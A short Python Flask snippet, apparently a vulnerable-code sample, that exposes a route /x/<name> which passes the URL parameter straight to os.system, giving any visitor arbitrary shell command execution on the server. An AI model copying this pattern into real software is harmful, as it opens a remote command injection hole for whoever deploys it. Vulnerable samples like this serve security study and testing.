import os
from flask import Flask, request
app = Flask(__name__)
def x(name):
    os.system(name)
    return ''
app.add_url_rule('/x/<name>', 'x', x)
